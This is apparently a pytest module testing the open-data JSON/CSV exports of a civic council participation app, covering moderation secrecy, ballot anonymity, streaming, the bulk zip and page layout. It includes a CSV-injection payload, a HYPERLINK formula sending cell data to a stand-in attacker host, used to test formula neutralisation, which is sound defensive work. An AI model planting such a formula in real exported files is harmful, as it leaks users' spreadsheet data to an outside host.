"""Open data (issue 16, DESIGN §6): /data and /data/<council>, every file as JSON and CSV,
the schema and datapackage.json, the bulk zip, on a small world built once for the module:
the authorisation matrix's world (a proposal with a hidden comment, a round, motions,
petitions, forwards, a consultation with a position) plus a closed vote with ballots, a
closed round with minutes, an answered forward, and text that a spreadsheet would run."""

from __future__ import annotations

import csv
import hashlib
import inspect
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from participate.opendata import schema
from participate.opendata.formats import csv_lines, json_lines, neutralise
from participate.votes.ballots import cast_ballot
from participate.votes.closing import close_voting

COUNCIL = "health-manchester"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
HIDDEN_TEXT = "A rude remark."
HIDDEN_REASON = "Breaks the standards."
HIDDEN_TITLE = "A title that named a member of staff"


def _wipe(db) -> None:
    db.session.rollback()
    with db.engine.begin() as conn:
        for table in reversed(db.metadata.sorted_tables):
            conn.execute(table.delete())


def _build(make) -> dict:
    from participate.accounts.models import User
    from participate.councils.models import Membership
    from participate.extensions import db
    from participate.proposals import discussion, moderation
    from participate.proposals import services as proposals
    from participate.proposals.models import Proposal
    from participate.rounds.decisions import record_outcome
    from participate.rounds.lifecycle import advance_phase
    from participate.rounds.models import Round
    from participate.upward.answers import answer_cluster
    from participate.upward.consultations import submit_position
    from participate.upward.models import Consultation, Forward
    from participate.votes import services as votes
    from participate.votes.models import Motion
    from tests.web.authorisation_world import build

    world = build(make)
    ids = world.ids
    member, clerk, minister = (
        db.session.scalar(sa.select(User).where(User.email == world.emails[role]))
        for role in ("member", "clerk", "minister")
    )
    proposal = db.session.get(Proposal, ids["proposal_id"])
    mcr = proposal.council
    formula = discussion.add_comment(member, proposal, body=FORMULA, stance="question")
    discussion.add_comment(member, proposal, body="-1 is not a formula, @here is", stance="neutral")

    # A proposal the clerk hides: its row stays, without its title, text or themes.
    hidden_proposal = proposals.create_proposal(
        member, mcr, title=HIDDEN_TITLE, body="Text that broke the standards.", themes=["gp"]
    )
    moderation.hide(clerk, hidden_proposal, reason="Names a member of staff.")

    # The open standalone motion: everyone eligible votes, then the clerk closes it.
    motion = db.session.get(Motion, ids["motion_id"])
    voters = db.session.scalars(
        sa.select(User)
        .join(Membership, Membership.user_id == User.id)
        .where(Membership.council_id == mcr.id, Membership.status == "active")
        .order_by(User.id)
    ).all()
    for i, voter in enumerate(voters):
        cast_ballot(voter, motion, choice="yes" if i % 3 else "no")
    close_voting(clerk, motion)
    still_open = votes.create_motion(clerk, mcr, title="Open the new clinic", method="binary")
    votes.open_voting(clerk, still_open, None)
    cast_ballot(member, still_open, choice="yes")

    # Manchester answers the consultation too, with text a spreadsheet would run.
    consultation = db.session.get(Consultation, ids["consultation_id"])
    submit_position(clerk, consultation, mcr, stance="amend", text="@SUM(1+1) weekends too")

    # The round runs to its end: its item is voted on, decided, and the minutes published.
    round_ = db.session.get(Round, ids["round_id"])
    while round_.phase != "outcome":
        advance_phase(clerk, round_)
    record_outcome(
        clerk,
        round_,
        round_.items[0],
        decision="rejected",
        reasons="Too few members voted for it, so the council does not adopt it this time.",
    )
    advance_phase(clerk, round_)
    assert round_.phase == "closed"

    # The minister answers the first forwarded proposal's cluster.
    forward = db.session.get(Forward, ids["forward_id"])
    answer_cluster(
        minister,
        forward.to_council,
        forward.cluster_id,
        kind="accept",
        reasons="We will take this into the national plan for GP access next year.",
    )
    db.session.commit()
    return {
        "ids": ids,
        "motion_id": motion.id,
        "open_motion_id": still_open.id,
        "hidden_proposal_id": hidden_proposal.id,
        "formula_comment_id": formula.id,
        "round_id": round_.id,
        "council_id": mcr.id,
    }


@pytest.fixture(scope="module")
def world(app):
    from participate.extensions import db
    from tests.conftest import Factory

    with app.app_context():
        _wipe(db)  # whatever an earlier module left
        built = _build(Factory(db))
        db.session.remove()
    yield built
    with app.app_context():
        _wipe(db)
        db.session.remove()


@pytest.fixture
def web(app, world):
    with app.app_context():
        yield app.test_client()


def _get(web, url: str):
    response = web.get(url)
    assert response.status_code == 200, (url, response.status_code, response.get_data()[:300])
    return response


def _json(web, url: str) -> list[dict]:
    return json.loads(_get(web, url).get_data(as_text=True))


def _csv(web, url: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_get(web, url).get_data(as_text=True), newline="")))


def _url(dataset: str, fmt: str, council: str | None) -> str:
    return f"/data/{council}/{dataset}.{fmt}" if council else f"/data/{dataset}.{fmt}"


# ---------------------------------------------------------------- every file, both formats


@pytest.mark.parametrize("council", [None, COUNCIL], ids=["site", "council"])
@pytest.mark.parametrize("dataset", [d.name for d in schema.DATASETS])
def test_every_file_in_json_and_csv_holds_the_schema_fields(web, dataset, council):
    fields = schema.BY_NAME[dataset].field_names
    response = _get(web, _url(dataset, "json", council))
    assert response.content_type == "application/json; charset=utf-8"
    records = json.loads(response.get_data(as_text=True))
    assert records, f"the world has {dataset}"
    assert all(list(r) == fields for r in records)
    response = _get(web, _url(dataset, "csv", council))
    assert response.content_type == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert rows[0] == fields
    assert len(rows) == len(records) + 1
    if council and dataset != "consultations":  # a council's holds those put to it too
        slugs = {r.get("council") for r in records} | {
            r.get(k)
            for r in records
            for k in ("from_council", "to_council", "consultation_council")
        }
        assert COUNCIL in slugs


def test_a_council_file_holds_only_that_council(web, world):
    site = _json(web, "/data/proposals.json")
    local = _json(web, f"/data/{COUNCIL}/proposals.json")
    assert {r["council"] for r in local} == {COUNCIL}
    assert [r for r in site if r["council"] == COUNCIL] == local
    assert _json(web, "/data/health-salford/proposals.json") == []
    salford = _json(web, "/data/health-salford/positions.json")
    assert [(p["council"], p["stance"]) for p in salford] == [("health-salford", "support")]


def test_records_carry_what_the_site_shows(web, world):
    ids = world["ids"]
    [motion] = [m for m in _json(web, "/data/motions.json") if m["id"] == world["motion_id"]]
    assert motion["status"] == "closed" and motion["result"]["method"] == "binary"
    assert motion["passed"] is not None and motion["weighted_support"] is not None
    assert all(m["id"] != ids["draft_motion_id"] for m in _json(web, "/data/motions.json"))
    [round_] = [r for r in _json(web, "/data/rounds.json") if r["id"] == world["round_id"]]
    assert round_["phase"] == "closed" and round_["minutes"]["round"]["id"] == world["round_id"]
    assert round_["minutes"] == web.get(f"/rounds/{world['round_id']}/minutes.json").get_json()
    [item] = [
        i for i in _json(web, "/data/agenda_items.json") if i["round_id"] == world["round_id"]
    ]
    assert item["decision"] == "rejected" and item["motion_id"] and item["reasons"]
    [forward] = [f for f in _json(web, "/data/forwards.json") if f["id"] == ids["forward_id"]]
    assert forward["answer_kind"] == "accept" and "national plan" in forward["answer_reasons"]
    assert forward["from_council"] == COUNCIL and forward["to_council"] == "health-england"
    positions = _json(web, "/data/positions.json")
    assert sorted((p["council"], p["stance"]) for p in positions) == [
        ("health-manchester", "amend"),
        ("health-salford", "support"),
    ]
    assert all(p["consultation_council"] == "health-england" for p in positions)
    petitions = {p["id"]: p for p in _json(web, "/data/petitions.json")}
    assert ids["waiting_petition_id"] not in petitions  # not published
    assert ids["draft_petition_id"] not in petitions
    reached = petitions[ids["reached_petition_id"]]
    assert reached["status"] == "threshold_reached" and reached["signatures"] == 1
    assert reached["signatures_citizen"] + reached["signatures_employee"] >= 0
    counts = [
        (c["dimension"], c["key"], c["signatures"])
        for c in _json(web, "/data/petition_counts.json")
        if c["petition_id"] == ids["reached_petition_id"]
    ]
    assert ("place", "manchester", 1) in counts
    assert {k for d, k, _ in counts if d == "constituency"} == {
        "citizen",
        "employee",
        "leader",
        "elected",
        "partner",
    }


# ---------------------------------------------------------------- moderation and secrecy


def test_a_hidden_comment_is_listed_as_hidden_with_its_reason_never_its_text(web, world):
    comments = {c["id"]: c for c in _json(web, f"/data/{COUNCIL}/comments.json")}
    hidden = [c for c in comments.values() if c["hidden"]]
    assert len(hidden) == 1
    [row] = hidden
    assert row["body"] is None and row["hidden_reason"] == HIDDEN_REASON
    assert row["stance"] == "against" and row["proposal_id"] == world["ids"]["proposal_id"]
    visible = comments[world["ids"]["comment_id"]]
    assert visible["body"] == "Saturdays matter." and visible["hidden_reason"] is None
    for fmt in ("json", "csv"):
        for council in (None, COUNCIL):
            text = _get(web, _url("comments", fmt, council)).get_data(as_text=True)
            assert HIDDEN_TEXT not in text and HIDDEN_REASON in text


def test_a_hidden_proposal_keeps_its_row_and_reason_but_not_its_text(web, world):
    [row] = [p for p in _json(web, "/data/proposals.json") if p["hidden"]]
    assert row["id"] == world["hidden_proposal_id"]
    assert row["hidden_reason"] == "Names a member of staff."
    assert row["title"] is None and row["body"] is None and row["themes"] == []
    for fmt in ("json", "csv"):
        for council in (None, COUNCIL):
            for dataset in ("proposals", "agenda_items", "forwards"):
                text = _get(web, _url(dataset, fmt, council)).get_data(as_text=True)
                assert HIDDEN_TITLE not in text and "broke the standards" not in text


def test_the_ballots_are_the_published_ballot_file_and_name_no_voter(web, world):
    from participate.accounts.models import User
    from participate.extensions import db
    from participate.votes.models import Ballot, MotionParticipation

    motion_id = world["motion_id"]
    published = web.get(f"/api/v1/motions/{motion_id}/ballots.json").get_json()
    assert published["ballots"]
    rows = [r for r in _json(web, "/data/ballots.json") if r["motion_id"] == motion_id]
    as_published = [
        {k: r[k] for k in ("constituency", "receipt", "choice") if r[k] is not None} for r in rows
    ]
    assert as_published == published["ballots"]
    assert {r["method"] for r in rows} == {published["method"]}
    csv_rows = [r for r in _csv(web, f"/data/{COUNCIL}/ballots.csv")[1:] if r[0] == str(motion_id)]
    assert [r[4] for r in csv_rows] == [b["receipt"] for b in published["ballots"]]
    # No voter reference, seal, digest, participation or person in any ballot file.
    secrets_ = set()
    for ref, digest in db.session.execute(
        sa.select(Ballot.ref, Ballot.receipt_digest).where(Ballot.motion_id == motion_id)
    ):
        secrets_ |= {ref, digest}
    voters = db.session.scalars(
        sa.select(User).join(MotionParticipation, MotionParticipation.user_id == User.id)
    ).all()
    assert voters
    for fmt in ("json", "csv"):
        text = _get(web, _url("ballots", fmt, None)).get_data(as_text=True)
        assert not any(s in text for s in secrets_)
        assert not any(u.email in text or u.name in text for u in voters)
    assert schema.BALLOTS.field_names == [
        "motion_id",
        "council",
        "method",
        "constituency",
        "receipt",
        "choice",
        "ranking",
        "reason",
    ]


def test_an_open_motion_publishes_no_result_and_no_ballots(web, world):
    opened = world["open_motion_id"]
    motions = {m["id"]: m for m in _json(web, "/data/motions.json")}
    assert motions[opened]["status"] == "open"
    assert motions[opened]["result"] is None and motions[opened]["passed"] is None
    assert all(b["motion_id"] != opened for b in _json(web, "/data/ballots.json"))
    assert world["ids"]["draft_motion_id"] not in motions


# ---------------------------------------------------------------- CSV injection


@pytest.mark.parametrize(
    "text, shown",
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+44 161 000", "'+44 161 000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(text, shown):
    assert neutralise(text) == shown


def test_csv_cells_that_start_a_formula_are_neutralised_and_numbers_are_not():
    rows = list(
        csv.reader(
            io.StringIO(
                "".join(
                    csv_lines(
                        ["a", "b", "c", "d"],
                        [{"a": "=1+1", "b": -3, "c": {"k": "=x"}, "d": True}, {"a": "@x"}],
                    )
                ),
                newline="",
            )
        )
    )
    assert rows == [
        ["a", "b", "c", "d"],
        ["'=1+1", "-3", '{"k": "=x"}', "true"],
        ["'@x", "", "", ""],
    ]
    data = json.loads("".join(json_lines(["a", "b"], [{"a": "=1+1", "b": -3}])))
    assert data == [{"a": "=1+1", "b": -3}]  # JSON is not a spreadsheet: kept as written


def test_a_formula_in_a_comment_is_neutralised_in_csv_and_kept_in_json(web, world):
    rows = _csv(web, f"/data/{COUNCIL}/comments.csv")
    header = rows[0]
    by_id = {r[header.index("id")]: r for r in rows[1:]}
    body = by_id[str(world["formula_comment_id"])][header.index("body")]
    assert body == "'" + FORMULA
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    [comment] = [
        c for c in _json(web, "/data/comments.json") if c["id"] == world["formula_comment_id"]
    ]
    assert comment["body"] == FORMULA


# ---------------------------------------------------------------- bad addresses


@pytest.mark.parametrize(
    "url",
    [
        "/data/no-such-council",
        "/data/no-such-council/proposals.csv",
        "/data/no-such-council/ballots.json",
        f"/data/{COUNCIL}/nothing.json",
        f"/data/{COUNCIL}/proposals.xml",
        "/data/proposals.xml",
    ],
)
def test_an_unknown_council_or_file_is_404(web, url):
    response = web.get(url)
    assert response.status_code == 404
    assert "no council" in response.get_data(as_text=True) or url.endswith((".xml", "nothing.json"))


# ---------------------------------------------------------------- streaming


def test_files_are_streamed_from_generators_read_in_chunks(app, web, world, monkeypatch):
    from participate.opendata import chunks, services

    with app.test_request_context(f"/data/{COUNCIL}/comments.csv"):
        view = app.view_functions["opendata.council_comments_csv"]
        response = view(slug=COUNCIL)
        assert response.is_streamed
        assert inspect.isgenerator(response.response)
        whole = b"".join(response.response)
    assert whole == web.get(f"/data/{COUNCIL}/comments.csv").get_data()
    assert inspect.isgenerator(services.records("comments"))
    # Chunks of one row give the very same files: the key paging loses and repeats nothing.
    for dataset in schema.DATASETS:
        for fmt in ("json", "csv"):
            monkeypatch.setattr(chunks, "CHUNK", 500)
            expected = web.get(_url(dataset.name, fmt, None)).get_data()
            monkeypatch.setattr(chunks, "CHUNK", 1)
            assert web.get(_url(dataset.name, fmt, None)).get_data() == expected, dataset.name


# ---------------------------------------------------------------- schema and licence


def test_the_datapackage_describes_every_file_with_the_licence(web, world):
    package = _get(web, "/data/datapackage.json").get_json()
    assert package["licenses"][0]["title"] == "Open Government Licence v3.0"
    assert "open-government-licence/version/3" in package["licenses"][0]["path"]
    names = {r["path"] for r in package["resources"]}
    assert names == {f"{d.name}.{fmt}" for d in schema.DATASETS for fmt in ("json", "csv")}
    for resource in package["resources"]:
        fields = [f["name"] for f in resource["schema"]["fields"]]
        header = _csv(web, f"/data/{resource['path'].rsplit('.', 1)[0]}.csv")[0]
        assert fields == header
        for f in resource["schema"]["fields"]:
            assert f["type"] in {
                "integer",
                "number",
                "string",
                "boolean",
                "datetime",
                "object",
                "array",
            }
            assert f["description"]


def test_the_schema_page_lists_every_field_its_type_and_meaning(web, world):
    html = _get(web, "/data/schema").get_data(as_text=True)
    for dataset in schema.DATASETS:
        assert f'id="fields-{dataset.name}"' in html
        for f in dataset.fields:
            assert f"<code>{f.name}</code>" in html
    assert "Open Government Licence v3.0" in html and 'rel="license"' in html
    assert "datapackage.json" in html


def test_the_pages_link_every_file_the_licence_and_each_other(web, world):
    site = _get(web, "/data").get_data(as_text=True)
    local = _get(web, f"/data/{COUNCIL}").get_data(as_text=True)
    for dataset in schema.DATASETS:
        for fmt in ("json", "csv"):
            assert f'href="/data/{dataset.name}.{fmt}"' in site
            assert f'href="/data/{COUNCIL}/{dataset.name}.{fmt}"' in local
    for html in (site, local):
        assert "Open Government Licence v3.0" in html
        assert "https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/" in html
        assert 'href="/data"' in html  # the footer
    assert f"/api/v1/motions/{world['motion_id']}/ballots.json" in local
    council_page = _get(web, f"/councils/{COUNCIL}").get_data(as_text=True)
    assert f'href="/data/{COUNCIL}"' in council_page  # the council's Open data tab
    assert 'href="/data"' in council_page  # the footer
    assert re.search(r'<a href="/data/health-manchester" aria-current="page">Open data</a>', local)


# ---------------------------------------------------------------- the bulk zip


@pytest.fixture
def instance(app, tmp_path):
    """A fresh instance folder, so no other test sees (or leaves) a bulk zip."""
    old = app.config["INSTANCE_PATH"]
    app.config["INSTANCE_PATH"] = str(tmp_path)
    yield tmp_path
    app.config["INSTANCE_PATH"] = old


def test_bulk_zip_before_and_after_it_is_built(app, web, world, instance):
    from participate.opendata.bulk import build_bulk_zip

    page = _get(web, "/data").get_data(as_text=True)
    assert "has not been made yet" in page
    missing = web.get("/data/participate-open-data.zip")
    assert missing.status_code == 404 and "not been made yet" in missing.get_data(as_text=True)

    path = build_bulk_zip()
    assert isinstance(path, Path) and path.is_file() and path.parent == instance / "opendata"
    assert not list((instance / "opendata").glob(".tmp-*"))  # written aside, then renamed
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    pointer = json.loads((instance / "opendata" / "current.json").read_text())
    assert pointer["sha256"] == digest and pointer["file"] == path.name

    page = _get(web, "/data").get_data(as_text=True)
    assert digest in page and "has not been made yet" not in page
    assert re.search(r'<time datetime="\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ">', page)
    download = _get(web, "/data/participate-open-data.zip")
    assert download.get_data() == path.read_bytes()
    assert download.headers["ETag"].strip('"') == digest
    assert "participate-open-data.zip" in download.headers["Content-Disposition"]

    with zipfile.ZipFile(path) as archive:
        names = set(archive.namelist())
        expected = {f"{d.name}.{fmt}" for d in schema.DATASETS for fmt in ("json", "csv")}
        assert expected | {"datapackage.json", "README.txt"} <= names
        assert f"ballots/motion-{world['motion_id']}.json" in names
        for name in sorted(expected):
            assert archive.read(name) == web.get(f"/data/{name}").get_data(), name
        published = web.get(f"/api/v1/motions/{world['motion_id']}/ballots.json").get_json()
        assert json.loads(archive.read(f"ballots/motion-{world['motion_id']}.json")) == published
        package = json.loads(archive.read("datapackage.json"))
        assert package["licenses"][0]["name"] == "OGL-UK-3.0"
        assert HIDDEN_TEXT.encode() not in archive.read("comments.csv")


def test_a_new_build_replaces_the_zip_keeping_the_previous_one_only(web, world, instance):
    from participate.opendata.bulk import build_bulk_zip, bulk_info

    folder = instance / "opendata"
    folder.mkdir()
    stale = folder / "participate-open-data-20000101T000000Z-000000000000.zip"
    stale.write_bytes(b"an old build")
    (folder / "current.json").write_text(json.dumps({"file": stale.name}))
    first = build_bulk_zip()
    assert stale.exists()  # the previous zip stays until the next build
    second = build_bulk_zip()
    assert not stale.exists()
    assert {p.name for p in folder.glob("*.zip")} == {first.name, second.name}
    info = bulk_info()
    assert info is not None and info.path == second


def test_cli_data_build_writes_the_zip_and_prints_its_checksum(app, world, instance):
    runner = app.test_cli_runner()
    result = runner.invoke(args=["data", "build"])
    assert result.exit_code == 0, result.output
    digest = re.search(r"sha256: ([0-9a-f]{64})", result.output).group(1)
    [zipped] = (instance / "opendata").glob("*.zip")
    assert hashlib.sha256(zipped.read_bytes()).hexdigest() == digest


# ---------------------------------------------------------------- a phone's width


def test_the_pages_fit_a_phone_390px_wide(app, web, world, instance):
    """Chromium at 390 px renders /data (with a zip's 64-character checksum), a council's
    /data page and the schema page, served by the test client: nothing scrolls sideways, axe
    finds no serious or critical violation, and headings never skip a level."""
    import concurrent.futures
    import os
    import shutil

    from participate.opendata.bulk import build_bulk_zip

    chromium = os.environ.get("CHROMIUM_PATH") or shutil.which("chromium") or "/usr/bin/chromium"
    if not os.path.exists(chromium):
        if os.environ.get("CI"):
            pytest.fail(f"Chromium is required in CI and was not found at {chromium}")
        pytest.skip("Chromium is not installed (apt-get install chromium)")
    from axe_playwright_python.sync_playwright import Axe
    from playwright.sync_api import sync_playwright

    build_bulk_zip()

    def serve(route):
        path = route.request.url.split("://", 1)[1].split("/", 1)[1]
        response = web.get("/" + path)
        route.fulfill(
            status=response.status_code,
            body=response.get_data(),
            headers={"content-type": response.content_type},
        )

    wide, bad, skips = [], [], []

    # In a thread of its own: a session's browser fixture (tests/browser) keeps Playwright's
    # event loop running on the main thread, where the sync API refuses to start again.
    def look() -> None:
        with sync_playwright() as pw:
            browser = pw.chromium.launch(
                executable_path=chromium,
                args=[
                    "--headless",
                    "--no-sandbox",
                    "--disable-gpu",
                    "--disable-background-networking",
                    "--disable-component-update",
                    "--disable-sync",
                ],
                headless=True,
            )
            try:
                context = browser.new_context(viewport={"width": 390, "height": 844})
                page = context.new_page()
                page.route("http://participate.test/**", serve)
                for url in ("/data", f"/data/{COUNCIL}", "/data/schema"):
                    page.goto("http://participate.test" + url)
                    scroll = page.evaluate("document.documentElement.scrollWidth")
                    if scroll > 390:
                        wide.append((url, scroll))
                    results = Axe().run(page).response["violations"]
                    bad.extend(
                        (url, v["id"])
                        for v in results
                        if v.get("impact") in ("serious", "critical")
                    )
                    levels = page.evaluate(
                        "[...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].map(h => +h.tagName[1])"
                    )
                    skips.extend(
                        (url, a, b) for a, b in zip(levels, levels[1:], strict=False) if b > a + 1
                    )
            finally:
                browser.close()

    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        pool.submit(look).result()
    assert not wide, wide
    assert not bad, bad  # axe-core: no serious or critical violation
    assert not skips, skips  # headings never skip a level
